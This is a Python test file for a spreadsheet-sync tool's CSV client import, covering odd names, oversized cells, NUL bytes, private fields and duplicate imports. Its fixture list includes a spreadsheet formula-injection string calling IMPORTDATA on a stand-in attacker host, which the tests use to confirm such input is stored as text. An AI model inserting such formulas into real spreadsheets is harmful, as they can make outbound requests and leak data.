"""Clients from a CSV file: odd ones kept as they are, impossible ones told."""

from __future__ import annotations

import csv
from collections.abc import Sequence

from click.testing import CliRunner, Result

from sheetsync.cli.face import Face
from sheetsync.cli.imports import import_group
from sheetsync.core.ids import DESK
from tests.worker.world import CUSTOMERS, PROSPECTS, World

ODD = [
    '=IMPORTDATA("http://evil.example/")',
    "+1 Holding",
    "🌵 Кактус",
    "שלום",
    "@home",
]


def take_in(
    world: World, rows: Sequence[Sequence[str]], stage: str = "prospects"
) -> Result:
    """Run ``sheetsync import clients --apply`` on a file of these rows."""
    file = world.home / "clients.csv"
    with file.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    arguments = ["clients", str(file), "--apply", "--stage", stage]
    return CliRunner().invoke(import_group, arguments, obj=Face(world.config))


def test_odd_names_arrive_as_text_and_get_an_id_and_a_day(world: World) -> None:
    world.cycle()

    answer = take_in(world, [["Company", "Phone"], *([name, "007"] for name in ODD)])
    world.cycle(2)

    assert answer.exit_code == 0
    rows = world.rows(PROSPECTS)
    assert sorted(str(row["Company"]) for row in rows) == sorted(ODD)
    assert {row["Phone"] for row in rows} == {"007"}
    assert all(str(row["ID"]).startswith("C") for row in rows)
    assert world.formulas(PROSPECTS) == []


def test_a_cell_over_the_limit_is_told_with_its_line_and_the_rest_goes_on(
    world: World,
) -> None:
    world.cycle()

    answer = take_in(
        world,
        [["Company", "Comment"], ["Good", "short"], ["Bad", "x" * 50_001]],
    )
    world.cycle(2)

    assert answer.exit_code == 5
    assert "Line 3 rejected" in answer.output
    assert "50000" in answer.output
    assert world.companies(PROSPECTS) == ["Good"]


def test_a_nul_is_removed(world: World) -> None:
    world.cycle()

    take_in(world, [["Company"], ["Nul\x00led"]])
    world.cycle(2)

    assert world.companies(PROSPECTS) == ["Nulled"]


def test_what_is_the_owners_alone_waits_in_the_journal_and_stands_on_his_desk(
    world: World,
) -> None:
    world.cycle()

    take_in(
        world,
        [["Company", "Personal mobile"], ["Acme", "+7900SECRET"]],
        stage="customers",
    )
    world.cycle(3)
    world.app.publish()

    olga = world.person("olga.smirnova@northwind.example")
    assert "SECRET" not in str(olga.grid(CUSTOMERS))
    desk = world.owner.rows(DESK, "report:all_clients")
    assert [row["Personal mobile"] for row in desk] == ["+7900SECRET"]


def test_importing_a_file_twice_makes_nobody_twice(world: World) -> None:
    world.cycle()
    rows = [["Company"], ["Acme"], ["Beta"]]

    take_in(world, rows)
    take_in(world, rows)
    world.cycle(2)
    take_in(world, rows)
    world.cycle(2)

    assert world.companies(PROSPECTS) == ["Acme", "Beta"]
